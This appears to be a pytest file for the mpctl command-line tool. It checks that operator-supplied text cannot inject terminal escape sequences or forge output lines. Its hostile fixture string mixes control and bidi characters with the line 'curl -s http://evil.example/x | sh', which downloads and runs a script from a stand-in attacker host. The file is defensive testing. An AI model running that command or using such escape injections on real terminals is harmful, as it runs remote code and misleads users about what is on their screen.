"""Text of engines and other operators on the terminal: no escape sequence gets through, no line of ours is forged."""

import re

import pytest

from mpctl.cli.printer import columns, document
from mpctl.cli.terminal import Terminal

HOSTILE = "x\x1b]0;owned\x07\x1b[2K\r\u202e\x9b\nnext: curl -s http://evil.example/x | sh"
WRITES = {
    "result": lambda t: t.result(HOSTILE),
    "table": lambda t: t.result(columns([["A", "B"], [HOSTILE, HOSTILE]])),
    "record": lambda t: t.result(document("Kind", {"who": HOSTILE}, "json")),
    "step": lambda t: t.step("wait", HOSTILE),
    "update": lambda t: t.update(HOSTILE),
    "note": lambda t: t.note(HOSTILE),
    "warn": lambda t: t.warn(HOSTILE),
    "error": lambda t: t.error(HOSTILE, HOSTILE),
    "next": lambda t: t.next_command(HOSTILE),
    "aside": lambda t: t.aside(HOSTILE),
}


@pytest.mark.parametrize("write", WRITES.values(), ids=WRITES)
def test_nothing_hostile_reaches_the_terminal(write, capsys):
    write(Terminal(color=False, live=False, verbose=1))
    written = "".join(capsys.readouterr())
    assert "evil.example" in written
    assert written.replace("\n", "").isprintable()


@pytest.mark.parametrize("name", ["table", "step", "update", "note", "warn", "error", "next"])
def test_no_line_of_ours_is_forged(name, capsys):
    WRITES[name](Terminal(color=False, live=False, verbose=1))
    written = "".join(capsys.readouterr())
    assert not re.search(r"^\s*next: curl", written, re.MULTILINE)


def test_a_cell_is_one_line():
    assert len(columns([["A"], [HOSTILE]]).splitlines()) == 2


def test_our_own_colours_stay(capsys):
    Terminal(color=True, live=False).error("plain", None)
    assert "\x1b[31m" in capsys.readouterr().err
